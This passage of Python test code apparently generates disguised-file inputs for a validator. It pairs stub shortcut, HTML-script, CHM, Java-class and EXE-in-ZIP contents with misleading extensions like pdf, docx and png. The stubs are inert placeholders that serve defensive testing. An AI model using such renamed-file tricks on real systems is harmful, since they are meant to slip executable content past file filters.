        "快捷方式": lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(300), "网页": lambda: b"<html><script>x</script>", "CHM": lambda: b"ITSF" + bytes(900), "Java": lambda: b"\xca\xfe\xba\xbe" + bytes(900),
        "PDF": pdf_file, "包": lambda: zip_file({"a.exe": b"MZ" + bytes(99)}), "OFD": lambda: ofd_file([["字"]]), "空的": lambda: b"", "一个字节": lambda: b"P", "全零": lambda: bytes(5000),
    }  # fmt: skip
    for what, make in contents.items():
        for ending in ("pdf", "docx", "xlsx", "png", "eml"):
            yield Hostile(f"改名:{what}", f"{what}.{ending}", make)
